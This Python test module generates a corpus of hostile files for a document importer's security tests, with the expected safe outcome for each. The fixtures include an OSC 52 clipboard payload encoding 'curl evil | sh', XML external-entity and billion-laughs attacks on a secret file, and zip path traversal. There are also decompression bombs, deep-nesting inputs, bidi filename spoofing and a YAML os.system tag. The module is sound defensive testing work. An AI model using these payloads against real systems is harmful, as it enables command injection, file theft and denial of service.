"""A library of hostile files: what each tries, and what must happen.

python -m tests.hostile.corpus FOLDER    writes them into an empty folder
python -m tests.hostile.corpus --table   prints the table of docs/trust.md
"""

from __future__ import annotations

import gzip
import io
import json
import lzma
import os
import struct
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Final, NamedTuple

import zstandard

from tests.unit.index.importers.making import CONTAINER, PACKAGE, book, chapter, zipped

if TYPE_CHECKING:
    from collections.abc import Callable

SECRET: Final = "كلمة_السر_خارج_المكتبة"  # noqa: S105 - it is told, if it is ever read
"""Stands in a file beside the library; in no article."""
CLIPBOARD: Final = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
"""Puts a command into the clipboard (OSC 52)."""
ESCAPES: Final = (
    f"\x1b[2J\x1b[H{CLIPBOARD}\x1b]0;عنوان\x1b\\\x9b31m\x90q\x9c\x07\x08\x0e\r\x7f\x85"
)
"""Clears the screen, names the window, colours, draws, rings, erases, shifts."""
SPOOF: Final = "دفتر\u202egpj.\u202c\u2066exe\u2069\u200f"
WIDE: Final = (
    "ﷺ﷽\u0300\u200b\ufe0f👩\u200d👩\u200d👧\u00ad\U000e0041\U000e007f\u115f\u3164" * 3
)
"""Signs of many widths and of none."""
SIGNS: Final = (
    "أ\u2028ب\u2029ج\x0bد\x0cه\x1dو\u009b31mز\u0085ح"  # ends of lines and pages, C1
    "\u2069\u2069\u202eط\u202c\u2067ي\u061c\u200e\u200f\u206a\u206f"  # direction
    "\ufff9ك\ufffaل\ufffb\U000e0001\u2061\u180e\u034f\U0001d173"  # annotation, unseen
    "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff\ue000\U0010fffd"  # no characters, private
    "\u3164\u115f\u1160\uffa0\u2800ﾊﾟ"  # fillers, halves
    + ("م" + "\u0651" * 10_000 + "e" + "\u0301" * 10_000)
    + ("👩" + "\u200d👩" * 500 + "🏴" + "\U000e0061" * 500)
    + ("\u1100" * 300 + "ن" + "\ufe0f" * 300)
)
"""What is left: everything that is no letter, and floods on one."""
BLANK: Final = "\u3164\u2800\u200b"
"""A name in which nothing is seen."""
MEGABYTE: Final = 1_000_000


class Hostile(NamedTuple):
    """One file."""

    name: str
    tries: str
    happens: str
    """In words, for the table; tests hold it to the next two."""
    content: Callable[[str], bytes]
    """Its bytes, given the path of the secret file."""
    articles: int = 0
    reasons: frozenset[str] = frozenset()
    """Of the problems that are told of it."""


def _text(text: str) -> Callable[[str], bytes]:
    return lambda _: text.encode("utf-8", "surrogatepass")


def _line(**fields: object) -> bytes:
    return json.dumps({"id": "x", "text": "نص", **fields}).encode()


def _laughs(secret: str) -> str:
    """Entities of entities, one of a file, one of the network."""
    named = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(30)
    )
    return (
        f'<!DOCTYPE x SYSTEM "file://{secret}" [<!ENTITY % d SYSTEM "file://{secret}"> %d;'
        f'<!ENTITY f SYSTEM "file://{secret}"><!ENTITY n SYSTEM "http://127.0.0.1:9/x">{named}]>'
    )


def _tei(secret: str) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{secret}"/>'
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="file://{secret}"?>{_laughs(secret)}'
        f"<TEI><text><p>متن &f; &n; &l29;</p>{include}</text></TEI>"
    ).encode()


def _page(secret: str) -> bytes:
    sources = "".join(
        f'<{tag} src="{where}" href="{where}" data="{where}">'
        for tag in ("img", "script", "iframe", "link rel=stylesheet", "object", "base")
        for where in ("http://127.0.0.1:9/x", f"file://{secret}", "//127.0.0.1:9/x")
    )
    page = (
        f'{_laughs(secret)}<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/">'
        f"{sources}</script></iframe></object><p>متن الصفحة هنا.</p>"
        f'<!--#include file="{secret}"--><p style="background:url(file://{secret})">ذيل</p>'
    )
    return page.encode()


def _book(secret: str) -> bytes:
    way = "../" * 12 + secret.lstrip("/")
    package = PACKAGE.replace("text/z.xhtml", way).replace(
        "cover.xhtml", f"file://{secret}"
    )
    container = CONTAINER.replace("?>", f"?>{_laughs(secret)}", 1)
    return book({"OEBPS/book.opf": package, "META-INF/container.xml": container})


def _headed(_: str) -> bytes:
    """A page that says of itself whatever a page can say."""
    signs = SIGNS.replace("\x0b", " ").replace("\x0c", " ").replace("\x1d", " ")
    names = ("author", "og:site_name", "article:section", "keywords", "og:url", "date")
    meta = "".join(f'<meta name="{n}" property="{n}" content="{signs}">' for n in names)
    return (
        f'<html><head><title>{signs}</title>{meta}<link rel=canonical href="http://x/{signs}">'
        f"</head><body><h1>{signs}</h1><p>متن {signs} تمام</p></body></html>"
    ).encode()


def _titled(_: str) -> bytes:
    """A book whose package says the same."""
    signs = "".join(one for one in SIGNS if one.isprintable())
    package = PACKAGE.replace("كتاب البئر", f"كتاب {signs}").replace("سعاد", signs)
    return book({"OEBPS/book.opf": package})


def _matter(_: str) -> bytes:
    names = ("title", "author", "category", "source", "url", "date", "tags")
    matter = "".join(f"{name}: {json.dumps(SIGNS)}\n" for name in names)
    return f"---\n{matter}---\n\n# {SIGNS}\n\nمتن {SIGNS} تمام\n".encode()


def _climbing(secret: str) -> bytes:
    names = (
        f"../../..{secret}",
        secret,
        "..\\..\\up.txt",
        "C:\\up.txt",
        "\x1b]0;x\x07.txt",
    )
    return zipped(dict.fromkeys(names, "جزء"))


def _linked(secret: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, secret)
    return buffer.getvalue()


def _nested(_: str) -> bytes:
    inner = zipped({"a.txt": "نص"})
    for number in range(12):
        inner = zipped({f"{number}.zip": inner})
    return inner


def _crowd(_: str) -> bytes:
    """A list of files longer than any archive has, in a file of a few kilobytes less."""
    entry = b"PK\x01\x02" + bytes(42)
    count = 17 * 1024 * 1024 // len(entry)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, count * 46, 0, 0)
    return entry * count + end


def _chapters(_: str) -> bytes:
    text = chapter(f"<p>نص</p><!--{' ' * 900_000}-->")
    items = "".join(
        f'<item id="i{n}" href="{n}.xhtml" media-type="application/xhtml+xml"/>'
        for n in range(300)
    )
    spine = "".join(f'<itemref idref="i{n}"/>' for n in range(300))
    package = (
        f'<package xmlns="http://www.idpf.org/2007/opf"><manifest>{items}</manifest>'
        f"<spine>{spine}</spine></package>"
    )
    parts = {f"OEBPS/{n}.xhtml": text for n in range(300)}
    return book({"OEBPS/book.opf": package, **parts})


def _window(_: str) -> bytes:
    """A stream that wants 1.5 GB of memory, for one letter."""
    filters = [{"id": lzma.FILTER_LZMA2, "dict_size": 4096}]
    packed = bytearray(lzma.compress(b"a" * 100, filters=filters))
    at = packed.index(b"\x21\x01") + 2
    packed[at] = 40  # 4 GB - 1 (xz, 5.3.1)
    size = (packed[12] + 1) * 4
    import zlib

    packed[12 + size - 4 : 12 + size] = struct.pack(
        "<I", zlib.crc32(packed[12 : 12 + size - 4])
    )
    return bytes(packed)


def _laughing(_: str) -> bytes:
    rows = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    rows += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    return ("---\n" + "\n".join(rows) + "\ntitle: *a11\n---\n\nمتن\n").encode()


_BOMB: Final = b" " * (60 * MEGABYTE)

ROWS: Final = (
    Hostile("escapes.txt", "control sequences in title and body: OSC 52, CSI, DCS, C1, backspace", "read; each control is drawn as a sign, and U+FFFD in a pipe", _text(f"عنوان {ESCAPES} تمام\n\nمتن {ESCAPES} تمام\n\n" + "كلام " * 400), 1),
    Hostile(f"{ESCAPES.replace('/', '')}.txt", "the same in the name of a file", "read; the name is shown without them", _text("متن الملف"), 1),
    Hostile("fields.jsonl", "the same in every field of JSON", "read", lambda _: _line(id=f"i{ESCAPES}", title=f"ع{ESCAPES}", category=f"ق{ESCAPES}", source=f"م{ESCAPES}", author=f"ك{ESCAPES}", url=f"http://x/{ESCAPES}", tags=[ESCAPES]), 1),
    Hostile(f"{SPOOF}.txt", "overrides and isolates in name and title, so that one name reads as another", "read; no override reaches a terminal", _text(f"{SPOOF}\n\nمتن {SPOOF} تمام"), 1),
    Hostile("width.txt", "signs of many cells and of none, tags, joiners, fillers", "read; no row is wider than its width", _text(f"{WIDE}\n\nمتن {WIDE} تمام"), 1),
    Hostile("signs.jsonl", "every sign that is no letter, and floods on one, in every field", "read; no cell is drawn of more than 33 code points", lambda _: _line(id=f"i{SIGNS}", title=f"ع{SIGNS}", category=f"ق{SIGNS}", source=f"م{SIGNS}", author=f"ك{SIGNS}", url=f"http://x/{SIGNS}", date=SIGNS, tags=[SIGNS]), 1),
    Hostile("headed.html", "the same in title, meta and headings of a page", "read", _headed, 1),
    Hostile("titled.epub", "the same in what a book says of itself", "read", _titled, 2),
    Hostile("matter-signs.md", "the same in front matter", "read", _matter, 1),
    Hostile("blank.jsonl", "fields in which nothing is seen", "read; they count as none", lambda _: _line(id=BLANK, title=BLANK, category=BLANK, source=BLANK, author=BLANK, tags=[BLANK]), 1),
    Hostile("marks.txt", "100,000 marks on one letter", "read", _text("م" + "\u0651\u064b" * 50_000 + "تن"), 1),
    Hostile("surrogates.txt", "half characters, and U+FFFF", "read; mended", _text("متن \ud800 \udfff \uffff \U0010ffff تمام " + "كلام " * 40), 1),
    Hostile("zeros.txt", "NUL bytes", "refused", lambda _: b"\0" * 10_000, 0, frozenset({"binary"})),
    Hostile("tei.xml", "billion laughs, entities of files and addresses, an external DTD, XInclude", "read; nothing is resolved", _tei, 1),
    Hostile("page.html", "images, scripts, frames, styles, refreshes, server-side includes", "read; nothing is fetched", _page, 1),
    Hostile("book.epub", "documents outside the book, by way of .. and file://, behind entities", "what is in it is read, the rest is missing", _book, 1, frozenset({"missing-part"})),
    Hostile("climbing.zip", "parts with .., absolute names, drives, escapes", "names are only names; equal ones are told", _climbing, 4, frozenset({"repeated-name"})),
    Hostile("linked.zip", "a symbolic link in an archive", "the text of the link is an article", _linked, 1),
    Hostile("nested.zip", "archives in archives, twelve deep", "not opened", _nested, 0, frozenset({"zip-in-zip"})),
    Hostile("crowd.zip", "a list of 387,000 files in 17 MB", "refused before it is read", _crowd, 0, frozenset({"too-many-parts"})),
    Hostile("bomb.zip", "60 MB of blanks in 60 KB", "given up at 16 MB", lambda _: zipped({"a.txt": _BOMB}), 0, frozenset({"overblown"})),
    Hostile("chapters.epub", "300 chapters of 900 KB in 500 KB", "given up when all together are 50 times the file, and 16 MB", _chapters, 37, frozenset({"overblown"})),
    Hostile("bomb.jsonl.gz", "60 MB of blanks in 60 KB", "given up at 16 MB", lambda _: gzip.compress(_line() + b"\n" + _BOMB), 1, frozenset({"overblown"})),
    Hostile("bomb.jsonl.xz", "the same", "the same", lambda _: lzma.compress(_line() + b"\n" + _BOMB, preset=1), 1, frozenset({"overblown"})),
    Hostile("bomb.jsonl.zst", "the same", "the same", lambda _: zstandard.compress(_line() + b"\n" + _BOMB), 1, frozenset({"overblown"})),
    Hostile("window.txt.xz", "a stream that wants 4 GB of memory", "refused", _window, 0, frozenset({"bad-archive"})),
    Hostile("tags.html", "500,000 elements, a gigabyte of memory", "refused", lambda _: "<p>ا".encode() * 500_000, 0, frozenset({"too-many-tags"})),
    Hostile("tags.xml", "the same in XML", "refused", lambda _: b"<TEI><text>" + b"<p>a</p>" * 300_000 + b"</text></TEI>", 0, frozenset({"too-many-tags"})),
    Hostile("table.md", "a table of 100,000 rows, a gigabyte of memory", "read as plain text", lambda _: "|ا|ب|\n|-|-|\n".encode() + "|ا|ب|\n".encode() * 100_000, 1),
    Hostile("lines.txt", "two million lines of one letter", "read; some lines together are a paragraph", lambda _: "ا\n".encode() * 2_000_000, 1),
    Hostile("deep.json", "100,000 arrays in each other", "refused", lambda _: b"[" * 100_000, 0, frozenset({"excessive-json"})),
    Hostile("deep.jsonl", "an object 100,000 deep", "refused", lambda _: b'{"text":' * 100_000 + b"\n", 0, frozenset({"excessive-json"})),
    Hostile("number.jsonl", "a number of 100,000 figures", "refused", lambda _: b'{"text": "a", "x": ' + b"9" * 100_000 + b"}", 0, frozenset({"excessive-json"})),
    Hostile("deep.html", "100,000 elements in each other", "refused", lambda _: b"<div>" * 100_000 + "نص".encode(), 0, frozenset({"nested"})),
    Hostile("deep.xml", "the same in XML", "refused", lambda _: b"<a>" * 100_000, 0, frozenset({"nested"})),
    Hostile("attributes.html", "an element with 300,000 attributes, hidden behind a quoted >", "refused", lambda _: b"<p a='>' " + b" ".join(b"a%x" % n for n in range(300_000)) + b">a", 0, frozenset({"empty"})),
    Hostile("lists.md", "100,000 lists in each other", "left out: beyond 100 nothing is read", lambda _: b"- " * 100_000 + "نص".encode(), 0, frozenset({"empty"})),
    Hostile("quotes.md", "100,000 quotations in each other", "the same", lambda _: b">" * 100_000 + "نص".encode(), 0, frozenset({"empty"})),
    Hostile("brackets.md", "100,000 brackets", "read", lambda _: b"[" * 100_000, 1),
    Hostile("aliases.md", "aliases of aliases in front matter", "read; front matter with so many is none", _laughing, 1),
    Hostile("matter.md", "30,000 lists in each other in front matter", "read; it is no front matter", lambda _: b"---\n" + b"[" * 30_000 + "\n---\n\nمتن".encode(), 1),
    Hostile("tag.md", "a tag of YAML that would call a function", "read; it is no front matter", _text("---\ntitle: !!python/object/apply:os.system ['touch /tmp/x']\n---\n\nمتن"), 1),
    Hostile("life.txt", "a line of years in an open bracket", "read", _text("(" + "1111-" * 50_000 + "\n\nمتن"), 1),
    Hostile("blanks.txt", "200,000 blanks in one line", "read", _text("ملاحظة" + " " * 200_000 + "متن\n\nمتن"), 1),
    Hostile("garbled.txt", "200,000 letters that may be garbled", "read", _text("é" * 100_000 + "Ø§Ù„Ø" * 20_000), 1),
)  # fmt: skip
"""The corpus, a row a file."""


def write(folder: Path) -> Path:
    """Write the corpus, and a secret beside the library that nothing may read.

    Returns:
        The library: links, pipes and devices are in it, too.
    """
    library, outside = folder / "library", folder / "outside"
    library.mkdir(parents=True)
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text(SECRET)
    for row in ROWS:
        (library / row.name).write_bytes(row.content(str(secret)))
    (library / "link.txt").symlink_to(secret)
    (library / "links.zip").symlink_to(outside)
    (library / "round").symlink_to(library)
    (library / "zero.txt").symlink_to("/dev/zero")
    os.mkfifo(library / "pipe.txt")
    return library


def table() -> str:
    """The table of docs/trust.md."""
    rows = [("file", "tries", "happens"), ("---", "---", "---")]
    rows += [(f"`{row.name}`", row.tries, row.happens) for row in ROWS]
    shown = "".join(f"| {' | '.join(row)} |\n" for row in rows)
    return "".join(
        one if one.isprintable() or one == "\n" else f"\\x{ord(one):02x}"
        for one in shown
    )


if __name__ == "__main__":
    if sys.argv[1:] == ["--table"]:
        sys.stdout.write(table())
    else:
        write(Path(sys.argv[1]))
